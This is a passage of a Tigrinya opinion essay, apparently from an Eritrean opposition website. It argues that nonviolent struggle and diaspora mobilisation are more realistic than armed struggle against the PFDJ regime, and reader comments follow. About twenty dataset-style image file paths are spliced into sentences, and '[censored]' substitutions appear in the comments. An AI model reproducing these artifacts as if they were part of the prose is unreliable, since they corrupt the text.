ሒዝካ ኢዩ ደኣ’ሞ ዕጥቃቂ ቃልሲ ክግበር ዝሕሰብ፧ ሕጂ ናብቲ ፍልስፍናውን ሞራላውን ሙጉት ክምለስ።



4. ሱር ዝሰደደ ወተሃደራዊ ባህሊ



ኣብ ኤርትራ ምልኪ ህግደፍ ጥራይ ኣይኮነን ጸገም ኮይኑ ዘሎ። እቲ ዝዓበየ ጸገም ንነዊሕ ዓመታት ሱር ዝሰደደ ወተሃደራዊ ባህሊ ኢዩ። እዚ ጸገም’ዚ ንኹሉ ጸጋታት ሕብረተሰብ በኪሉ ገዚፍ ሃገራዊ በሰላ ፈጢሩ ኣሎ። ኣብ ኤርትራ ነባርን ዘላቕን ዲሞክራስያዊ ባህሊ ክዕንብብ እንተኾይኑ ድማ ምውጋድ ህግደፍ ጥራይ እኹል ኣይኮነን። ብወገነይ እቲ ዝዓበየ ብድሆ ዝብሎ፡ ነዚ ዝሳዕረረ ወተሃደራዊ ባህሊ ብዲሞክራስያዊ ባህሊ ምትካእ ኢዩ። እዚ ድማ በሲሉ ዝፈንተረ ወተሃደራዊ ሓሳባታት ብምኹምሳዕ ዘይኮነ ክትግበር ዝኽእል፡ ዲሞክራስያዊ ኣተሓሳስባን ባህልን ብምኹስኳስ ጥራይ’ዩ ክዕወት ዝኽእል ዝብል እምነት ኣሎኒ። ጎነጽ ብባህሪኡ ጎነጽ ኢዩ ዝወልድ። ኣዝዩ ውሑድ(ንጣር) ተሞክሮ ሃገራት ዓለም ገዲፍካ ብጎነጽ ናብ ስልጣን ዝመጽአ ፖለቲካዊ ሓይሊ ንኹሉ ነገራት በዚ መንጽር እዚ ኢዩ ዝርእዮ። ካብዚ ዓንኬል’ዚ ወጺኡ ዲሞክራስያዊ ባህሊ ከዐምብብ ዝተራእየ ተሞክሮታት እንተሎ ከምቲ ካብ ብሱል ጥረ ዝበሃል ምስላ ኢዩ። ሎሚ ኣብ ዓለም እንዳገነነ ዝኸይድ ዘሎ ኣድማሳዊ ተረድኦ ውን ምስትብሃል ዘድልዮ ነገር ኢዩ። ዳርጋ ብምሉኡ ብረት ዓጢቑ ኣንጻር መንግስታት ዝቃለስ ፖለቲካዊ ሓይልታት ከም ግብረ-ሽበራዊ ተበግሶታት ኣብ ዝረኣየሉ እዋን፡ነዚ መስመር’ዚ ምርዓም ዘኸትሎ ፖለቲካዊ ክሳራታት ካብቲ ክጭበጥ ዝሕለን ዓወታት ዝዛየደ ኢዩ። ናይ መጨረሻ ፍታሕ ካባና ካብ ኤርትራውያን ክመጽእ ከም ዝግብኦ ርዱእ ኮይኑ፡ ኣብ ዓለም በይንና ስለ ዘይንነብር ደገፍን ተደናጋጽነትን ዓለም ክንከስብ ከምንደሊ ርዱእ ኢዩ። ንጎነጽ ከም መሰረታዊ መፍትሒ ግርጭት ዝረዓመ ፖለቲካዊ ሓይሊ ግን ብሓቂ ከምዚ ዝኣመሰለ ደገፍን ተደናጋጽነትን ክረክብ ይኽእልዶ፧ ምስዚ ተዛሚዱ ዝርአ ብዙሕ ሕጋዊ ኣመታት ከም ዘሎ ውን ምርዳእ የድሊ - ብመንጽር ሕጊ ኩናትን (international humanitarian law) ካልእን። ኣብዚ መድረኸዚ ንኹሉ ብዝርዝር ከተቕርቦ ግን ዝከኣል ኣይኮነን።



5. ናይ ኣረዳድኣ ጸገም



ዘይጎጻዊ ኣገባብ ቃልሲ ክበሃል እንከሎ ብዙሓት ሰባት ምስ ሰላማዊ ሰልፍታን ምጽሓፍ ናይ ጥርዓን ደብዳበታትን ጥራይ ኣተሓሒዞም ዝርድእዎ ሰባት ኣለዉ። ሓደ-ሓደ ግዜ ውን ከም መምዘኒ ናይቲ ኣብ ምልኪስርዓት ህግደፍ ዘለካ ኣረኣእያ ጌሮም ይወስድዎ። ብኻልእ ኣዘራርባ ኣብ ጎነጻዊ ኣገባብ ቃልሲ ኢየ ዝኣምን እንተኢልካ ከም መትከላዊ ተቓላሳይ ትርአ። ብኣንጻሩ ኣብ ዘይጎነጻዊ ቃልሲ ትኣምን እንተኾንካ ድማ ከም ተደናጋጺ ስርዓት ህግደፍ ጌርካ ናይ ምርዳእ ዝንቡዕ ኣመለኻኽታ ኣሎ። እዚ ጌጋ ምዃኑ ንኹልና ብሩህ ይመስለኒ። ኣብ ጎነጽን ዘይጎነጽን ዘሎ መትከላዊ ፍልልይ፡ ኣብ ልዕሊ ምልኪ ክህሉ ንዝኽእል መርገጺ ብዝኾነ መገዲ መዐቀኒኡ ኣይኮነን። በዚ ግጉይ ቀመር (formula) ናይ ቃልሲ ጽንዓትን ተወፋይነትን ክትመዝን ምፍታን ስሕታን ኢዩ። ኣብ ትሕዝቶ ናይ ዘይጎነጻዊ ኣገባብ ቃልሲ ኣቲኻ ንምዝራብ ግን፡ ከም ነብሱ ዝኸኣለ ናይ ቃልሲ ስትራተጂ መጠን፡ ብዙሕ ኣማራጽታትን ተኽእሎታትን ከም ዘለዎ ክዝንጋዕ የብሉን። ከምቲ ዝግባእ ሰሪሕናሉዶ ኣይሰራሕናሉን ኢዩ እቲ ሕቶ። ኣብ መጋባኣያታት ዓለምን ኣብ ጸለውቲ ዝበሃላ ሃገራትን ከምቲ ዝድለ ተሰማዕነት ክንረክብ ክኢልናዶ ዝብል ሕቶ ሓደ ካብቲ ክለዓል ዝኽእል ነጥብታት ኢዩ። ነዚ ንምትግባር ጥይትን ቡምባን የድሊ ድዩ፧ቃልስና ናይ ስደት ቃልሲ ካብ ኮነ፡ ሓደ ካብቲ ክንገብሮ ዝግበኣና ዝነበረ ነገራት ኣብ ስደት ዘሎ ህዝቢ ብስሙር ድምጺ ኣንጻር ምልኪ ህግደፍ ደው ከም ዝብል ምግባር ኢዩ። ኣብ ስደት ዘሎ ህዝብና ዳርጋ ፍርቂ ናይ ምሉእ ህዝቢ ኤርትራ በጺሑሉ ኣብ ዘሎ እዋን፡ ነዚ ክንዲዚ ዝኣክል ህዝቢ ወዲብካን ጠርኒፍካን ክጭበጥ ዝኽእል ዓወትኣቃሊልካ ዝርአ ከም ዘይኮነ ኩልና ንግንዘቦ ነገር ኢዩ። ኣብዚ መዳይ’ዚ ዘይተዓወትና ደኣ እሞ ከመይ ጌርና ኣብ ወተሃደራዊ መዳይ ክንዕወት እምነት ነሕድር፧ ኣየናይዶ ይቐልል፧ ብሕጽር ዝበለ ኣዘራርባ፡ ንዝበዝሐ ኣብ ስደት ዘሎ ህዝብና ደጋፍን ተደናጋጽን ቃልስና ክኸውን ኣብ ዘየእመንናሉ ህሞት፡ ብኸመይ ዝበለ ተኣምር ካብ ኤሮጳን ኣመሪካን ካልእ ክፋላት ዓለምን ተላዒሉ ብረት ክሕንገጥ ንጽበዮ፧ ኮይኑ ተሪፉ እቲ ኣብ መዓስከር ስደተኛታት ሱዳንን ኢትዮጵያን ዘሎ ህዝቢ ብቐሊሉ ኣብ መሳርዕ ቃልሲ ንኽንጽበር ከተእምኖ ዝቐልል ይመስል ይኸውን። ብግብሪ ግን እቲ ኣብኡ ዘሎ ህዝቢ ብፍላይ ድማ መንእሰይ ከም ካልእ ኩሉ ህዝቢ መዋጽኦ ረኺቡ ኣብ ውሑስ ቦታታት ክበጽሕ ሃረርታን ሕልምን ዘለዎ ድኣ እምበር ተጠውዩ ብረት ተሓንጊጡ ክዋጋእ ቅሩብነት ዘለዎ ኢዩ ኢለ ክኣምን ብወገነይ ኣዝዩ ይኸብደኒ።



ተሳታፍነት ናይ ኣብ ስደት ዝርከብ ህዝብና ከነዕዝዝ ዘይምኽኣልና ናትና ጸገም ደኣ እምበር ናይቲ ክንሰርሓሉ ዝግበኣና ዘይጎነጻዊ ስትራተጂ ጸገም ኣይኮነን። ክሳብ ሕጂ ጸላዊ ክበሃል ዝኽእል ቁጽሪ ህዝቢ ኣብ ቃልሲ ከም ዝጽንበር ዘይምግባርና ብሓቂ ናይቲ ስትራተጂ ጸገም ኣይኮነን። ከነተኩረሎም ዝግብኣና ካልኦት ፖለቲካውያን ሕቶታት ኣለዉ - ንኣብነት ስሙር ጥርናፈ በርጌሳውያንን ፖለቲካውያን ሓይልታት ዘይምህላዉ። እዚግብራዊ ብድሆታት እዚ ብዕምቆት እንተተረዲእናዮ እቲ ሕቶ ክሳብ ክንደይ ዝተሓላለኸ ምዃኑ ንጹር ይመስለኒ። እምበርኣከስ፡ ጎነጻዊ ስትራተጂ ብሓሳብ ጥራይ ኣብ ልዕሊ ተጻባኢኻ ፖለቲካዊ ጸብለልትነት ክፈጥር ዘኽእል ስለ ዝመስል ጥራይ፡ ግብራውነቱ ከይመዘንካ ከም መርገጺ ክትርዕሞ ኣሸጋሪ ኢዩ - ብፍላይ ኣብ ኩነታትና። እንተተራዒሙ ውን ኣብ ናይ ዘረባ ጨለነት ጥራይ ተሓጺሩ ዝተርፍ ኮይኑ ይስምዓኒ። ገለ-ገለ ዜጋታት ዘቕርብዎ ሙጉት ውን ኣሎ። “ጎነጻዊ-ዘይጎነጻዊ” ኢልካ ኣብ ክንዲ ምፍልላይ ብኹሉ ዝጥዕም ኣገባባት ዘይንቃለስ ይብሉ። ከምቲ ኣቐዲመ ዝገልጽክዎ ግን ምስህሉው ፖለቲካዊ ኩነታትና ኣዛሚድና እንተርኢናዮ ጎነጻዊ ኣገባብ ቃልሲ ግብራውነቱ ኣዝዩ ዱሩት ምዃኑ ርዱእ ኢዩ። ንስለዘረባ ጥራይ እንተተዛረብናዮ ግን ፋይድኡ እንታይ ኢዩ፧



ካልእ መሰረታዊ ሕቶ ‘ውን ኣሎ። እቲ ብብረት ክህረም ዝድለ ዘሎኸ መን ኢዩ፧ ተስፋ እገብር ኩሉ ብረት ዝዓጠቐ ሰብ ክውቃዕ ኣለዎ ዝብል እምነት ከም ዘየሎ። ዝኾነ ኮይኑ፡ ኣብ ኤርትራ ይፍጸም ናይ ዘሎ ገበናት ዝለዓለ ሓላፍነት ዝስከሙ እቶም ሃንደስቱን ሰኣልቱን ኢዮም። እቲ ዝተረፈ ሓመድ ሓፋሽ ግዱድ ዓስከር ኢዩ። እቶም ቀንዲ መን ኢዮም እንተኢልና እቶም ኣብ ዝለዓለ ጽፍሒ ሓላፍት ተዀይጦም ዘለዉ ሰብ መዚ ህግደፍ ኢዮም። ካብኦም ውርድ ኢልካ ውን ገለ ማእከሎት ሓለፍትንመኮንናትን ክህልዉ ይኽእሉ። ብግብሪ ግን እቶም ኣዝዮም ዕሉላት ዝበሃሉ ውሑዳት ውልቀ-ሰባት ምዃኖም ዘከራኽር ኣይመስለንን። እዞም ሰባት እዚኣቶም ካብ ረመጽ ሓዊ ኣዝዮም ዝረሓቑን ውሑስ ሂወትን መነባብሮን ዘለዎምኢዮም። ብወንጭፍ ዑፍ ከተረኻኽበሎም ዝከኣል ኣይኮነን። እቲ ብጭቡጥ ክግበር ዝክኣል ነገር ግን ነቲ ኣብ ወሰናስን ሃገር ዓሪዱ ዘሎ ተራ ወተሃደር (መብዛሕትኡ ዋርሳይ) ብተመልከተይ ምልቃም ኢዩ። ብሕጋውን ሞራላውን ሙጉት እዚ ኣማራጺ’ዚ ቅቡል ኢዩ ዝብል እምነት እንተሎ ከቢድ ናይ ኣረዳድኣ ጸገም ስለ ዘሎ ጥራይ ይመስለኒ። እዝን ከምዝን ዝኣመሰለ ብድሆታት ንነገራት ስኽን ኢልና ስምዒት ከይሓወስና ከንመዝኖም ከም ዝግባኣ ዘዘኻኽረና ነጥቢ ይመስለኒ። ሎሚ እንዘርኦ ዘርኢ ጽባሕ ጻህያይ ጥራይ ኮይኑ ከይበቁል ኩልና ክንሓስበሉ ዝግባእ ሓላፍነት ይመስለኒ።ካልእ ነገር ውን ኣሎ። ብወተሃደራዊ ሓይሊ መጺኻ ህግደፍ ኣቃሊልካ ዝረአ ስርዓት ኣይኮነን። ብዘይ ደገፍ ናይ ወጻኢ ሓይልታት በዚ መዳይዚ ክትምክቶ ቀሊል ኣይኮነን። ወተሃደራዊ ምትእትታው ናይ ወጻኢ ሓይልታት ኣብ ዝገሃደሉ ግዜ ድማ ዝለዓል መሰረታዊ ሕቶታት ኣሎ። ንኣብነት ናይ ልኡላውነት ሕቶ ካብቲ ክመጽእ ዝኽእል ሕቶታት ሓደ ኢዩ። ኣብዚ መዳይዚ ጥንቁቕ ኣካይዳ ክህሉ ከም ዝግባእ ዝዝንግዕ ሰብ ዘሎ ኣይመስለንን። ነቲ ደፊሩ ኣብ ቃልሲ ክጽንበር ዘይከኣለ ህዝቢ ከምዚ ዝኣሰመ ዘደናግር መሲሉ ዝረኣዮ ነጥብታት ክሳብ ዝሃለወ ክትከስቦ ከጸግም ኢዩ። ምኽንያቱ ውዒሉ ሓዲሩ ህዝቢ ዘይኣመነሉ ለውጢ ድልዱል ሰረት ክህልዎ ዘለዎ ተኽእሎ ምህሙን ክኸውንስለ ዝኽእል።





6. መደምደምታ



እምበኣርከስ ኣብ ሞንጎ ጎነጻውን ዘይጎነጻውን ቃልሲ ክንካታዕ እንከሎና፡ ፖለቲካዊ ኩነታትናን ታሪኽናን ዝፈጠሮ ሕጽረታትን ንሱ ዘፍቅዶ ተኽሎታትን ኣብ ግምት ብምእታው ደኣ እምበር ሞራላውን ሕጋውን ተቐባልነት ናይቲ እንመርጾ ኣገባብ ቃልሲ ብምርኣይ ጥራይ ኣይኮነን። ብመሰል ደረጃ ጎነጻዊ ኣገባብ ቃልሲ ቅቡል ዝኾነሉ ኩነታት ክህሉ ከም ዝኽእል ርዱእ ኢዩ። ነዚ ዘፍቅድ ታሪኻዊ ኩነታት ኣዝዩ ድሩት ኢዩ። ከም ህግደፍ ዝኣመሰለ መጻይ ስርዓት ብኸመይ ክግጠም ኣለዎ ጥራይ ዘይኮነ፡ ኣብዚ እዋንዚ ህዝቢ ኤርትራ ብኸመይ’ዩ ክገጥሞ ዝኽእል ዝብል ሕቶ እንኮላይ ኣገዳሲ ኢዩ። እቲ ኣብ ውሽጢ ኤርትራ ዘሎ ህዝቢ ክገብሮ ዝኽእል ነገራት ከም ዘየለ ርዱእ ኢዩ። ኣብ ስደት ውሑድ ዘይበሃል ቁጽሪ ህዝቢ ከም ዘሎ ንፈልጥ። ክሳብ ሕጂ ዝነበረ ተርኡ ግን ኣዝዩ ዝሕቱል ከም ዝኾነ ፍሉጥ ጉዳይ ኢዩ። እዚ ርኡይሕጽረታት’ዚ ጎነጻዊ ኣገባብ ቃልሲ ኣብዚ ሕጂ እዋን ኣብ ኤርትራዊ መኸተ ኣንጻር ምልኪ ኣድማዕን ግብራውን ከም ዘይኮነ ዘነጽር ኣብነታት ኢዩ ዝብል እምነት ኣለኒ። ልዕሊ ኹሉ ግን ከም ህዝቢ ኤርትራ ዝኣመሰለ ካብ ልክዕ ዝሓለፈ ዕስክርናን ወተሃደራዊ ባህልን ዘላደዮ ህዝቢተተመላሊሱ ኣብ ጎነጽ ክሽመም ትጽቢትምሕዳር ንኽውንነት ዘይምግንዛብ ይመስለኒ። ኣብ ኣኼባታትን ሰላማዊ ሰልፍታትን ጉልባቡ ቀሊዑ ዝሳተፍ ጸላዊ ዝበሃል ቀጽሪ ህዝቢ ዘይተጎስጎሰስ ንህግደፍ ብረት ተሓንጊጡ ዝዓሉ ቦጦሎንታትን በራጊድን ክህሉ ምጽባይ ካብ ክውንነት ዝረሓቐ ትምኒት ከይከውን ምስትውዓል የድሊ። ንነገራት ምስ ፖለቲካዊ ክውንነትና ኣዛሚድና ክንርእዮ ይግባእ። ኣብ ርእሲዚ፡ ከምቲ ዝግባእ ስለ ዘይተሰርሓሉ ድኣ እምበር ዘይጎነጻዊ ኣገባብ ቃልሲ ኣድማዒ ስልታትን ኣገባባትን ከም ዘለዎ ምርዳእ ውን ኣገዳሲ ኢዩ። ዘይሰርሕ ኮይኑ ዘይኮነስ ኣይሰራሕናሉን።






Comments

  1. #3 ሻሎም
    2010-11-1507:33:28 እቲ መብዛሕቱ ክፋል ህዝቢ ኣብ ሃገሩ ለውጢ ከምጽእ ንኽይሳተፍ ቀንዲ ጸገም ኮይኑ ዘሎ ፡ እቶም ክንመርሕ ኢሎም ዝርኣዩ ሰባት ብቕዓት ይጎድሎም ኣሎ ፡፡
    ተኣማንነትን ክብረትን ዝጎደሎም ፤ ለውጢ ክብሃል ከሎ ጥውይውይን ምስምስን ዘብዝሑ ፡ ምስ ሰብ ናይ ምልዛብን ምስምማዕን ተኽእሎ ዝጎድሎም ፤ ብመገድና ወይ ሞት ኢሎም ዝነቕጹመራሕቲ ክእለዩ ይግባእ ፡፡ እምበር ህዝቢ ቅኑዓትን ግዱሳትን ፤ ብሓቂ ንህዝብን ሃገርን ዝሓልዩ መራሕቲ ተዝረክብ ፤ ድሕር ኣይምበለን ፡፡
  2. #2 Gezae
    2010-11-1419:34:37 Part II
    However, if Kidan leaders can’t deal with the past, how can they deal with the present and the future democratic change in Eritrea?

    I believe these groups leaders are stuck in the past and can no longer lives for thepresent and the future. The undemocratic origins and practices [censored] the 60 and early 70 are still reflected on them.

    Kidan as an organization suffers from leaders for life and a lack [censored] democracy. Kidan has been largely absent from new and evolving forms [censored] social and political democratic activities, and has failed to renew its political discourse and to reach out to young democratic activists and other new political forces.

    Kidan's difficulties in adapting to new developments in Eritrean politics is reflected in its position [censored] modern democratic change in Eritrea in the so called WaEla and up-most result.

    Things do not change; we change.
    Henry David T[censored]au
  3. #1 Gezae
    2010-11-1419:33:32 Part I
